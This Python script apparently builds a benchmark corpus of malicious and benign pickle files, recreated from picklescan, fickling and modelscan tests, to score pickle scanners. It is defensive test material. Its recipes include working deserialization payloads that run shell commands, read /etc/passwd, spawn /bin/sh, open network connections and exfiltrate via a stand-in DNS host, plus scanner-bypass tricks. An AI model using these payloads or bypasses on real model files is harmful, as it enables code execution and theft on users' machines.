"""Rebuild the public pickle-scanner test corpora, reproducibly and offline.

picklescan (mmaitre314/picklescan tests/data, tests/data2), fickling (trailofbits/fickling
test_bypasses.py) and modelscan (protectai/modelscan tests/test_modelscan.py) build their malicious
test files from a few opcodes or a `__reduce__`: what is called, with which arguments, at which
protocol. Their sdists on PyPI ship no test data, and CI reaches only PyPI, so each file is
re-described here as a recipe (data, in our own words) and rebuilt by our own small assembler.
Nothing of theirs is copied or committed; fickling's module lists are read from the installed
fickling at build time (its UnsafeImportsML tables, as its own coverage test iterates them).

Each file keeps its peer's expectation: "malicious" or "benign". Files the reconstruction cannot
rebuild without extra packages (7z, dill, cloudpickle, keras) are listed in SKIPPED.

    python benchmarks/pickle/corpus.py [--out DIR]   # default: $HARNESS_CACHE_DIR/corpora/pickle
"""

from __future__ import annotations

import _compat_pickle
import argparse
import io
import json
import os
import pickle
import struct
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

CORPUS_VERSION = 1
PAYLOAD = "__import__('os').system('echo pwned')"


@dataclass(frozen=True)
class Item:
    peer: str  # picklescan, fickling, modelscan
    name: str  # file name, as in the peer's tests
    expect: str  # "malicious" or "benign"
    build: object  # () -> bytes


# -- a small assembler ------------------------------------------------------------------------------

def _args_body(args: tuple, protocol: int) -> bytes:
    """The opcodes that push `args` (a tuple of plain values), without PROTO/FRAME/STOP."""
    data = pickle.dumps(args, protocol=protocol)
    if protocol >= 2:
        data = data[2:]
    if data[:1] == b"\x95":
        data = data[9:]
    return data[:-1]


def call(module: str, name: str, args: tuple = (), protocol: int = 4) -> bytes:
    """A pickle that imports module.name and calls it with args, the way pickle.dumps writes a
    __reduce__ (Python 2 names for protocol < 3, STACK_GLOBAL from protocol 4)."""
    head = b"" if protocol < 2 else b"\x80" + bytes([protocol])
    if protocol < 3:
        if (module, name) in _compat_pickle.REVERSE_NAME_MAPPING:
            module, name = _compat_pickle.REVERSE_NAME_MAPPING[(module, name)]
        elif module in _compat_pickle.REVERSE_IMPORT_MAPPING:
            module = _compat_pickle.REVERSE_IMPORT_MAPPING[module]
    if protocol >= 4:
        target = _sbu(module) + _sbu(name) + b"\x93"
    else:
        target = b"c" + module.encode() + b"\n" + name.encode() + b"\n"
    return head + target + _args_body(args, protocol) + b"R."


def _sbu(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def asm(*parts) -> bytes:
    """Opcodes as data: ("proto", n), ("global", mod, name), ("str", s) [SHORT_BINUNICODE],
    ("ustr", s) [UNICODE], ("put", n), ("get", n), ("memoize",), ("binget", n), ("op", name)."""
    out = bytearray()
    for part in parts:
        kind = part[0]
        if kind == "proto":
            out += b"\x80" + bytes([part[1]])
        elif kind == "global":
            out += b"c" + part[1].encode() + b"\n" + part[2].encode() + b"\n"
        elif kind == "inst":
            out += b"i" + part[1].encode() + b"\n" + part[2].encode() + b"\n"
        elif kind == "str":
            out += _sbu(part[1])
        elif kind == "ustr":
            out += b"V" + part[1].encode("raw_unicode_escape") + b"\n"
        elif kind == "sstr":
            out += b"S'" + part[1].encode() + b"'\n"
        elif kind == "bytes":
            out += b"B" + struct.pack("<I", len(part[1])) + part[1]
        elif kind == "put":
            out += b"p" + str(part[1]).encode() + b"\n"
        elif kind == "get":
            out += b"g" + str(part[1]).encode() + b"\n"
        elif kind == "binget":
            out += b"h" + bytes([part[1]])
        elif kind == "int":
            out += b"J" + struct.pack("<i", part[1])
        elif kind == "op":
            out += pickle.__dict__[part[1]]
        elif kind == "raw":
            out += part[1]
        else:
            raise ValueError(kind)
    return bytes(out)


def zipped(member: str, data: bytes, flags: int = 0, rename_local: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr(member, data)
    out = bytearray(buffer.getvalue())
    if flags:
        for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = 0
            while (start := out.find(sig, start)) != -1:
                out[start + offset] |= flags
                start += 4
    if rename_local:
        out = out.replace(member.encode(), rename_local.encode(), 1)
    return bytes(out)


def npy_object(pickled: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + pickled


def numpy_file(array_kind: str) -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    if array_kind == "int":
        np.save(buffer, np.arange(4).reshape(2, 2))
    elif array_kind == "object":
        array = np.empty((2, 2), dtype=object)
        array[:] = [(1, 2), (3, 4)]
        np.save(buffer, array, allow_pickle=True)
    elif array_kind == "int_npz":
        np.savez(buffer, a=np.arange(3), b=np.arange(3))
    elif array_kind == "object_npz":
        np.savez(buffer, a=np.array([0, 1, 2], dtype=object), b=np.array([3, 4], dtype=object))
    return buffer.getvalue()


def torch_file(zip_format: bool) -> bytes:
    import torch

    buffer = io.BytesIO()
    state = {"linear.weight": torch.ones(4, 4), "linear.bias": torch.zeros(4)}
    torch.save(state, buffer, _use_new_zipfile_serialization=zip_format)
    return buffer.getvalue()


def torch_zip_payload() -> bytes:
    """A torch.save zip whose data.pkl calls a dangerous global (modelscan's unsafe_zip_pytorch.pt)."""
    source = zipfile.ZipFile(io.BytesIO(torch_file(True)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("data.pkl"):
                data = call("builtins", "exec", (PAYLOAD,), 2)
            target.writestr(info, data)
    return out.getvalue()


def magic_bypass() -> bytes:
    parts = [call("builtins", "eval", ("0x1950A86A20F9469CFC6C",), 2), pickle.dumps(1001, protocol=2),
             pickle.dumps({}, protocol=2), pickle.dumps([], protocol=2), call("os", "system", ("echo pwned",), 2),
             pickle.dumps(None, protocol=2)]
    return b"".join(parts)


# -- picklescan: tests/init_data_files.py, as recipes -----------------------------------------------

_PICKLESCAN_CALLS = [
    # (file, module, qualified name, args, protocol)
    ("malicious1_v0.pkl", "builtins", "eval", ("print('456')",), 0),
    ("malicious1_v3.pkl", "builtins", "eval", ("print('456')",), 3),
    ("malicious1_v4.pkl", "builtins", "eval", ("print('456')",), 4),
    ("malicious2_v0.pkl", "posix", "system", ("ls -la",), 0),
    ("malicious2_v3.pkl", "posix", "system", ("ls -la",), 3),
    ("malicious2_v4.pkl", "posix", "system", ("ls -la",), 4),
    ("malicious3.pkl", "http.client", "HTTPSConnection", ("github.com",), 0),
    ("malicious4.pickle", "requests.api", "get", ("https://github.com",), 4),
    ("malicious5.pickle", "aiohttp.client", "ClientSession", (), 4),
    ("malicious7.pkl", "socket", "create_connection", (("github.com", 80),), 4),
    ("malicious8.pkl", "subprocess", "run", (["ls", "-l"],), 4),
    ("malicious9.pkl", "sys", "exit", (0,), 4),
    ("malicious13a.pkl", "pickle", "loads", (b"I12345\n.",), 0),
    ("malicious13b.pkl", "_pickle", "loads", (b"I12345\n.",), 4),
    ("malicious14.pkl", "runpy", "_run_code", ("print('456')",), 4),
    ("malicious15a.pkl", "bdb", "Bdb.run", ("import os\nos.system('whoami')",), 2),
    ("malicious15b.pkl", "bdb", "Bdb.run", ("import os\nos.system('whoami')",), 4),
    ("malicious16.pkl", "pip", "main", (["install", "some_malicious_package"],), 0),
    ("malicious17.pkl", "torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", "echo pwned"]), 4),
    ("malicious18.pkl", "pydoc", "pipepager", ("", "echo pwned"), 4),
    ("malicious19.pkl", "torch.serialization", "load", ("some_other_model.bin",), 4),
    ("malicious20.pkl", "venv", "create", ("venv", False, False, True, False, "$(echo pwned)"), 4),
    ("malicious21.pkl", "timeit", "timeit", ("", "import os; os.system('echo pwned')"), 4),
    ("malicious22.pkl", "numpy.testing._private.utils", "runstring", ("import os", {}), 4),
    ("GHSA-4r9r-ch6f-vxmx.pkl", "torch.utils.bottleneck.__main__", "run_cprofile", (PAYLOAD, {}), 4),
    ("GHSA-86cj-95qr-2p4f.pkl", "torch._dynamo.guards", "GuardBuilder.get", ({}, PAYLOAD), 4),
    ("GHSA-f4x7-rfwp-v3xw.pkl", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
     ({}, PAYLOAD, []), 4),
    ("GHSA-f745-w6jp-hpxx.pkl", "torch.utils.collect_env", "run", (PAYLOAD,), 4),
    ("GHSA-jhph-76pp-mggw.pkl", "torch.utils.collect_env", "run_and_read_all", ("run", PAYLOAD), 4),
    ("GHSA-h3qp-7fh3-f8h4.pkl", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b""), 4),
    ("GHSA-vr7h-p6mm-wpmh.pkl", "torch.jit.unsupported_tensor_ops", "execWrapper", (PAYLOAD, {}, {}), 4),
    ("GHSA-vv6j-3g6g-2pvj.pkl", "torch.utils._config_module", "ConfigModule.load_config", ({}, b""), 4),
    ("GHSA-5qwp-399c-mjwf.pkl", "trace", "Trace.run", ({}, PAYLOAD), 4),
    ("GHSA-g344-hcph-8vgg.pkl", "trace", "Trace.runctx", ({}, PAYLOAD, {}, {}), 4),
    ("GHSA-x696-vm39-cp64.pkl", "profile", "Profile.run", ({}, PAYLOAD), 4),
    ("GHSA-6vqj-c2q5-j97w.pkl", "profile", "Profile.runctx", ({}, PAYLOAD, {}, {}), 4),
    ("GHSA-f54q-57x4-jg88.pkl", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b""), 4),
    ("GHSA-3vg9-h568-4w9m.pkl", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, PAYLOAD), 4),
    ("GHSA-6w4w-5w54-rjvr.pkl", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, PAYLOAD), 4),
    ("GHSA-7cq8-mj8x-j263.pkl", "idlelib.autocomplete", "AutoComplete.fetch_completions", ({}, PAYLOAD, 1), 4),
    ("GHSA-cj3c-v495-4xqh.pkl", "code", "InteractiveInterpreter.runcode", ({}, PAYLOAD), 4),
    ("GHSA-8r4j-24qv-fmq9.pkl", "idlelib.calltip", "Calltip.fetch_tip", ({}, PAYLOAD), 4),
    ("GHSA-9xph-j2h6-g47v.pkl", "idlelib.calltip", "get_entity", (PAYLOAD,), 4),
    ("GHSA-4whj-rm5r-c2v8.pkl", "torch.utils.bottleneck.__main__", "run_autograd_prof", (PAYLOAD, {}), 4),
    ("GHSA-xp4f-hrf8-rxw7.pkl", "ensurepip", "_run_pip", (PAYLOAD,), 4),
    ("GHSA-p9w7-82w4-7q8m.pkl", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + PAYLOAD), 4),
    ("GHSA-m869-42cg-3xwr.pkl", "idlelib.run", "Executive.runcode", ({}, PAYLOAD), 4),
    ("GHSA-j343-8v2j-ff7w.pkl", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, PAYLOAD), 4),
    ("GHSA-3gf5-cxq9-w223.pkl", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, PAYLOAD), 4),
    ("GHSA-fqq6-7vqf-w3fg.pkl", "doctest", "debug_script", (PAYLOAD, True), 4),
    ("GHSA-9w88-8rmg-7g2p.pkl", "cProfile", "runctx", (PAYLOAD, None, None), 4),
    ("GHSA-49gj-c84q-6qm9.pkl", "cProfile", "run", (PAYLOAD,), 4),
    ("GHSA-7wx9-6375-f5wh.pkl", "profile", "run", (PAYLOAD,), 4),
    ("GHSA-q77w-mwjj-7mqx.pkl", "asyncio.unix_events", "_UnixSubprocessTransport._start",
     ({}, "whoami", True, None, None, None, 0), 4),
    ("GHSA-jgw4-cr84-mqxg.bin", "asyncio.unix_events", "_UnixSubprocessTransport._start",
     ({}, "whoami", True, None, None, None, 0), 4),
    ("GHSA-m273-6v24-x4m4.pkl", "distutils.file_util", "write_file", ("pwned_config.env", ["malicious content"]), 4),
    ("GHSA-4675-36f9-wf6r.pkl", "ctypes", "CDLL", (None,), 4),
    ("GHSA-vqmv-47xg-9wpr.pkl", "pty", "spawn", (["/bin/sh", "-c", "id; exit"],), 4),
    ("GHSA-r8g5-cgf2-4m4m.pkl", "numpy.f2py.crackfortran", "getlincoef", (PAYLOAD, []), 4),
    ("io_FileIO.pkl", "_io", "FileIO", ("/etc/hosts", "r"), 4),
    ("urllib_request_urlopen.pkl", "urllib.request", "urlopen", ("https://example.invalid",), 4),
    ("logging_FileHandler.pkl", "logging", "FileHandler", ("evil.log",), 4),
    ("GHSA-vvpj-8cmc-gx39.pkl", "pkgutil", "resolve_name", ("os:system",), 4),
    ("GHSA-g38g-8gr9-h9xp-uuid.pkl", "uuid", "_get_command_stdout", ("id",), 4),
    ("GHSA-g38g-8gr9-h9xp-osx-support.pkl", "_osx_support", "_read_output", ("id",), 4),
    ("GHSA-g38g-8gr9-h9xp-aix-support.pkl", "_aix_support", "_read_cmd_output", ("id",), 4),
    ("GHSA-g38g-8gr9-h9xp-imaplib.pkl", "imaplib", "IMAP4_stream", ("id",), 4),
    ("GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl", "_pyrepl.pager", "pipe_pager", ("text", "id"), 4),
    ("GHSA-g38g-8gr9-h9xp-test.pkl", "test.support.script_helper", "assert_python_ok", ("-c pass",), 4),
]

_CTF_STACK_GLOBAL = [  # strings PUT and POPped, then fetched with GET for STACK_GLOBAL
    ("ustr", "os"), ("put", 2), ("op", "POP"), ("ustr", "system"), ("put", 3), ("op", "POP"),
    ("ustr", "torch"), ("put", 0), ("op", "POP"), ("ustr", "LongStorage"), ("put", 1), ("op", "POP"),
    ("get", 2), ("get", 3), ("op", "STACK_GLOBAL"), ("op", "MARK"), ("ustr", "cat flag.txt"),
    ("op", "TUPLE"), ("op", "REDUCE"), ("op", "STOP"),
]

_SOUR_PICKLE = [  # globals/compile/eval/getattr/apply chain, protocol 0
    ("global", "__builtin__", "globals"), ("op", "MARK"), ("op", "TUPLE"), ("op", "REDUCE"), ("put", 100), ("op", "POP"),
    ("global", "__builtin__", "compile"), ("op", "MARK"), ("sstr", "fl=open('/etc/passwd');x=fl.read();"),
    ("sstr", ""), ("sstr", "exec"), ("op", "TUPLE"), ("op", "REDUCE"), ("put", 101), ("op", "POP"),
    ("global", "__builtin__", "eval"), ("op", "MARK"), ("get", 101), ("get", 100), ("op", "TUPLE"), ("op", "REDUCE"),
    ("put", 102), ("op", "POP"), ("global", "__builtin__", "getattr"), ("op", "MARK"),
    ("global", "__builtin__", "dict"), ("sstr", "get"), ("op", "TUPLE"), ("op", "REDUCE"), ("put", 103), ("op", "POP"),
    ("global", "__builtin__", "apply"), ("op", "MARK"), ("get", 103), ("op", "MARK"), ("get", 100), ("sstr", "x"),
    ("op", "LIST"), ("op", "TUPLE"), ("op", "REDUCE"), ("op", "STOP"),
]


def _picklescan() -> list[Item]:
    items = [Item("picklescan", f, "malicious", lambda m=m, n=n, a=a, p=p: call(m, n, a, p))
             for f, m, n, a, p in _PICKLESCAN_CALLS]
    p1 = lambda: call("builtins", "eval", ("print('456')",), 4)  # noqa: E731
    items += [
        Item("picklescan", "malicious0.pkl", "malicious", lambda: asm(*_SOUR_PICKLE)),
        Item("picklescan", "malicious10.pkl", "malicious",
             lambda: asm(("op", "MARK"), ("sstr", "raise RuntimeError('Injection running')"),
                         ("inst", "__builtin__", "exec"), ("op", "STOP"))),
        Item("picklescan", "malicious11.pkl", "malicious", lambda: asm(*_CTF_STACK_GLOBAL)),
        Item("picklescan", "malicious-invalid-bytes.pkl", "malicious", lambda: asm(*_CTF_STACK_GLOBAL, ("raw", b"\n\n\t\t"))),
        Item("picklescan", "malicious6.pkl", "malicious",
             lambda: pickle.dumps(["a", "b", "c"]) + call("requests.api", "get", ("https://github.com",), 4)),
        Item("picklescan", "malicious23.pkl", "malicious",
             lambda: asm(("raw", b"S'os'\nS'system'\n"), ("op", "STACK_GLOBAL"), ("raw", b"S'ls'\n"),
                         ("op", "TUPLE1"), ("op", "REDUCE"), ("op", "STOP"))),
        Item("picklescan", "keyerror-exploit.pkl", "malicious",
             lambda: asm(("proto", 4), ("global", "os", "system"), ("ustr", "echo pwned"), ("op", "TUPLE1"),
                         ("op", "REDUCE"), ("op", "POP"), ("str", "os"), ("op", "MEMOIZE"), ("binget", 3),
                         ("binget", 0), ("op", "STACK_GLOBAL"), ("raw", b"K\x42."))),
        Item("picklescan", "type-confusion-exploit.pkl", "malicious",
             lambda: asm(("proto", 4), ("global", "os", "system"), ("ustr", "echo pwned"), ("op", "TUPLE1"),
                         ("op", "REDUCE"), ("op", "POP"), ("int", 42), ("op", "MEMOIZE"), ("str", "os"),
                         ("op", "MEMOIZE"), ("binget", 0), ("binget", 1), ("op", "STACK_GLOBAL"), ("raw", b"K\x42."))),
        Item("picklescan", "broken_model.pkl", "malicious",
             lambda: b"cbuiltins\nexec\n(X>\x00\x00\x00f = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX."),
        Item("picklescan", "types_CodeType.pkl", "malicious",
             lambda: asm(("proto", 4), ("str", "types"), ("op", "MEMOIZE"), ("str", "CodeType"), ("op", "MEMOIZE"),
                         ("op", "STACK_GLOBAL"), ("op", "MEMOIZE"), ("raw", _args_body((0, 0, 0, 0, 2, 64, b"d\x00S\x00",
                                                                                          (None,), (), (), "<x>", "<x>"), 4)),
                         ("op", "REDUCE"), ("op", "STOP"))),
        Item("picklescan", "malicious1.zip", "malicious", lambda: zipped("data.pkl", p1())),
        Item("picklescan", "malicious1_central_directory.zip", "malicious",
             lambda: zipped("data.pkl", p1(), rename_local="datap.kl")),
        Item("picklescan", "malicious1_crc.zip", "malicious",
             lambda: zipped("data.pkl", p1()).replace(b"print('456')", b"print('123')", 1)),
        Item("picklescan", "malicious1_0x1.zip", "malicious", lambda: zipped("data.pkl", p1(), flags=0x1)),
        Item("picklescan", "malicious1_0x20.zip", "malicious", lambda: zipped("data.pkl", p1(), flags=0x20)),
        Item("picklescan", "malicious1_0x40.zip", "malicious", lambda: zipped("data.pkl", p1(), flags=0x40)),
        Item("picklescan", "malicious1_wrong_ext.zip", "malicious", lambda: zipped("data.txt", p1())),
        Item("picklescan", "pytorch_magic_bypass.pt", "malicious", magic_bypass),
        Item("picklescan", "dns_exfiltration.npy", "malicious",
             lambda: npy_object(call("ssl", "get_server_certificate", (("x.dns-logger.invalid", 443),), 4))),
        Item("picklescan", "benign0_v0.pkl", "benign", lambda: pickle.dumps(["a", "b", "c"], protocol=0)),
        Item("picklescan", "benign0_v3.pkl", "benign", lambda: pickle.dumps(["a", "b", "c"], protocol=3)),
        Item("picklescan", "benign0_v4.pkl", "benign", lambda: pickle.dumps(["a", "b", "c"], protocol=4)),
        Item("picklescan", "pytorch_model.bin", "benign", lambda: torch_file(False)),
        Item("picklescan", "new_pytorch_model.bin", "benign", lambda: torch_file(True)),
        Item("picklescan", "bad_pytorch.pt", "benign", lambda: b"\x89PNG\r\n\x1a\n"),
        Item("picklescan", "int_array.npy", "benign", lambda: numpy_file("int")),
        Item("picklescan", "int_arrays.npz", "benign", lambda: numpy_file("int_npz")),
        Item("picklescan", "object_array.npy", "benign", lambda: numpy_file("object")),
        Item("picklescan", "object_arrays.npz", "benign", lambda: numpy_file("object_npz")),
    ]
    return items


# -- fickling: test_bypasses.py, as recipes -----------------------------------------------------------

def _fickling() -> list[Item]:
    calls = [
        ("pty_spawn", "pty", "spawn", ("id",)),
        ("runpy_run_path", "runpy", "run_path", ("/tmp/malicious.py",)),
        ("cprofile_run", "cProfile", "run", ("print('CPROFILE_RCE_CONFIRMED')",)),
        ("pydoc_locate", "pydoc", "locate", ("os.system",)),
        ("multiprocessing_spawnv_passfds", "multiprocessing.util", "spawnv_passfds", ("/bin/sh", ["sh", "-c", "id"], ())),
        ("distutils_write_file", "distutils.file_util", "write_file", ("/tmp/malicious.txt", ["malicious content"])),
        ("io_fileio", "_io", "FileIO", ("/etc/passwd",)),
        ("numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", ("__import__('os').system('id')", {})),
        ("asyncio_subprocess", "asyncio.unix_events", "_UnixSubprocessTransport._start",
         ({}, "whoami", True, None, None, None, 0)),
        ("smtplib_obj_pop", "smtplib", "SMTP", ("127.0.0.1",)),
        ("uuid_command", "uuid", "_get_command_stdout", ("echo", "PROOF_OF_CONCEPT")),
        ("aix_support", "_aix_support", "_read_cmd_output", ("echo PROOF_OF_CONCEPT",)),
        ("osx_support", "_osx_support", "_find_build_tool", ("x; echo INJECTED #",)),
        ("dotted_attr_via_stdlib", "pathlib", "os.system", ("id",)),
        ("builtins_eval", "builtins", "eval", ("print('hello')",)),
        ("builtins_getattr", "builtins", "getattr", ("os", "system")),
        ("operator_methodcaller", "_operator", "methodcaller", ("system", "echo pwned")),
        ("marshal_loads", "marshal", "loads", (b"\xe3",)),
        ("ctypes_cdll", "ctypes", "CDLL", ("libc.dylib",)),
        ("importlib_import_module", "importlib", "import_module", ("os",)),
        ("code_interpreter", "code", "InteractiveInterpreter", ()),
        ("ast_parse_ml", "ast", "parse", ("1",)),
        ("future_dotted", "__future__", "_ssl.RAND_bytes", (8,)),
    ]
    for module in ("_xxsubinterpreters", "_interpreters", "_xxinterpchannels"):
        calls.append((f"private_{module}", module, "create", ()))
    for module, cls in (("ftplib", "FTP"), ("poplib", "POP3"), ("imaplib", "IMAP4"), ("nntplib", "NNTP"),
                        ("telnetlib", "Telnet"), ("smtplib", "SMTP"), ("socketserver", "TCPServer"),
                        ("xmlrpc.client", "ServerProxy")):
        calls.append((f"ssrf_{module}_{cls}", module, cls, ("127.0.0.1",)))
    items = [Item("fickling", f"{name}.pkl", "malicious", lambda m=m, n=n, a=a: call(m, n, a, 4))
             for name, m, n, a in calls]
    items.append(Item("fickling", "builtins_import_bypass.pkl", "malicious", lambda: asm(
        ("global", "builtins", "__import__"), ("sstr", "os"), ("op", "TUPLE1"), ("op", "REDUCE"), ("put", 0), ("op", "POP"),
        ("global", "builtins", "getattr"), ("get", 0), ("sstr", "system"), ("op", "TUPLE2"), ("op", "REDUCE"),
        ("sstr", "whoami"), ("op", "TUPLE1"), ("op", "REDUCE"), ("op", "STOP"))))
    items.append(Item("fickling", "obj_pty_spawn.pkl", "malicious", lambda: asm(
        ("op", "MARK"), ("global", "pty", "spawn"), ("sstr", "id"), ("op", "OBJ"), ("op", "STOP"))))
    items.append(Item("fickling", "marshal_function_type.pkl", "malicious", lambda: asm(
        ("proto", 4), ("str", "marshal"), ("str", "loads"), ("op", "STACK_GLOBAL"), ("bytes", b"\xe3code"), ("op", "TUPLE1"),
        ("op", "REDUCE"), ("op", "MEMOIZE"), ("str", "types"), ("str", "FunctionType"), ("op", "STACK_GLOBAL"),
        ("binget", 0), ("op", "EMPTY_DICT"), ("op", "TUPLE2"), ("op", "REDUCE"), ("op", "EMPTY_TUPLE"), ("op", "REDUCE"),
        ("op", "STOP"))))
    items.append(Item("fickling", "safe_builtins_len.pkl", "benign", lambda: call("builtins", "len", (["a"],), 4)))
    items.append(Item("fickling", "safe_builtins_dict.pkl", "benign", lambda: call("builtins", "dict", (), 4)))
    try:  # fickling's own tables: its coverage test pickles every entry as GLOBAL + REDUCE
        from fickling.analysis import UnsafeImportsML
        from fickling.fickle import BUILTIN_MODULE_NAMES
    except ImportError:
        return items
    for module in UnsafeImportsML.UNSAFE_MODULES:
        func = "eval" if module in BUILTIN_MODULE_NAMES else "dangerous"
        items.append(Item("fickling", f"unsafe_module_{module}.pkl", "malicious",
                          lambda m=module, f=func: b"\x80\x04c" + f"{m}\n{f}\n".encode() + b")R."))
    for module, funcs in UnsafeImportsML.UNSAFE_IMPORTS.items():
        for func in funcs:
            items.append(Item("fickling", f"unsafe_import_{module}.{func}.pkl", "malicious",
                              lambda m=module, f=func: b"\x80\x04c" + f"{m}\n{f}\n".encode() + b")R."))
    return items


# -- modelscan: tests/test_modelscan.py, as recipes ---------------------------------------------------

_MODELSCAN_FROM_PICKLESCAN = {"malicious1_v0.pkl", "malicious1_v3.pkl", "malicious1_v4.pkl", "malicious2_v0.pkl",
                              "malicious2_v3.pkl", "malicious2_v4.pkl", "malicious3.pkl", "malicious4.pickle",
                              "malicious5.pickle", "malicious7.pkl", "malicious8.pkl", "malicious9.pkl"}


def _modelscan() -> list[Item]:
    nested = asm(("proto", 5), ("global", "os", "system"), ("ustr", "echo pwned!!!"), ("op", "TUPLE1"),
                 ("op", "REDUCE"), ("op", "STOP"))
    # modelscan's tests build the same files as picklescan's, up to malicious9, plus its own bdb one
    shared = [c for c in _PICKLESCAN_CALLS if c[0] in _MODELSCAN_FROM_PICKLESCAN]
    items = [Item("modelscan", f, "malicious", lambda m=m, n=n, a=a, p=p: call(m, n, a, p)) for f, m, n, a, p in [
        *shared,
        ("malicious15.pkl", "bdb", "Bdb.run", ("import os\nos.system('whoami')",), 4),
    ]]
    items += [
        Item("modelscan", "malicious0.pkl", "malicious", lambda: asm(*_SOUR_PICKLE)),
        Item("modelscan", "malicious6.pkl", "malicious",
             lambda: pickle.dumps(["a", "b", "c"]) + call("requests.api", "get", ("https://github.com",), 4)),
        Item("modelscan", "malicious10.pkl", "malicious",
             lambda: asm(("op", "MARK"), ("sstr", "print('Injection running')"), ("inst", "__builtin__", "exec"),
                         ("op", "STOP"))),
        Item("modelscan", "malicious11.pkl", "malicious", lambda: asm(*_CTF_STACK_GLOBAL)),
        Item("modelscan", "malicious12.pkl", "malicious", lambda: asm(
            ("proto", 5), ("global", "pickle", "loads"), ("bytes", nested), ("op", "TUPLE1"), ("op", "REDUCE"),
            ("op", "POP"), ("op", "NONE"), ("op", "STOP"))),
        Item("modelscan", "malicious13.pkl", "malicious", lambda: asm(
            ("proto", 5), ("global", "builtins", "eval.__call__"), ("ustr", '__import__("os").system("echo pwned!!!")'),
            ("op", "TUPLE1"), ("op", "REDUCE"), ("op", "STOP"))),
        Item("modelscan", "malicious14.pkl", "malicious", lambda: asm(*_CTF_STACK_GLOBAL, ("raw", b"\n\n\t\t"))),
        Item("modelscan", "malicious1.zip", "malicious", lambda: zipped("data.pkl", call("builtins", "eval", ("x",), 4))),
        Item("modelscan", "unsafe_zip_pytorch.pt", "malicious", torch_zip_payload),
        Item("modelscan", "unsafe_numpy.npy", "malicious",
             lambda: npy_object(call("builtins", "exec", ("print('Malicious code!')",), 2))),
        Item("modelscan", "benign0_v0.pkl", "benign", lambda: pickle.dumps(["a", "b", "c"], protocol=0)),
        Item("modelscan", "benign0_v3.pkl", "benign", lambda: pickle.dumps(["a", "b", "c"], protocol=3)),
        Item("modelscan", "benign0_v4.pkl", "benign", lambda: pickle.dumps(["a", "b", "c"], protocol=4)),
        Item("modelscan", "safe_zip_pytorch.pt", "benign", lambda: torch_file(True)),
        Item("modelscan", "safe_old_format_pytorch.pt", "benign", lambda: torch_file(False)),
        Item("modelscan", "safe_numpy.npy", "benign", lambda: numpy_file("int")),
        Item("modelscan", "bad_pytorch.pt", "benign", lambda: b"\x89PNG\r\n\x1a\n"),
    ]
    return items


SKIPPED = {
    "picklescan/malicious1.7z": "needs py7zr to write a 7z archive (check-dir reports 7z archives as unscanned)",
    "picklescan/cloudpickle_codeinjection.pkl": "needs cloudpickle",
    "picklescan/GHSA-84r2-jw7c-4r5q.pkl": "nested __reduce__ objects (operator.methodcaller of pydoc.locate)",
    "picklescan/sys_module_override_sploit.pkl": "no recipe in the generator",
    "modelscan/*.dill": "needs dill",
    "modelscan/keras and tensorflow files": "not pickles",
}


def items() -> list[Item]:
    return _picklescan() + _fickling() + _modelscan()


def default_dir() -> Path:
    base = os.environ.get("HARNESS_CACHE_DIR") or os.path.expanduser("~/.cache/llm-harness")
    return Path(base) / "corpora" / "pickle"


def build(out: Path | None = None) -> Path:
    """Write every corpus file under out/<peer>/<expect>/<name> and a manifest.json; idempotent."""
    out = Path(out) if out else default_dir()
    manifest_path = out / "manifest.json"
    if manifest_path.exists():
        manifest = json.loads(manifest_path.read_text())
        if manifest.get("version") == CORPUS_VERSION and all((out / f["path"]).exists() for f in manifest["files"]):
            return out
    files = []
    for item in items():
        rel = Path(item.peer) / item.expect / item.name
        (out / rel).parent.mkdir(parents=True, exist_ok=True)
        (out / rel).write_bytes(item.build())
        files.append({"path": str(rel), "peer": item.peer, "expect": item.expect})
    manifest_path.write_text(json.dumps({"version": CORPUS_VERSION, "files": files, "skipped": SKIPPED}, indent=1))
    return out


def load_manifest(out: Path) -> list[dict]:
    return json.loads((out / "manifest.json").read_text())["files"]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=None)
    args = parser.parse_args(argv)
    out = build(args.out)
    files = load_manifest(out)
    malicious = sum(f["expect"] == "malicious" for f in files)
    print(f"{out}: {len(files)} files ({malicious} malicious, {len(files) - malicious} benign)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
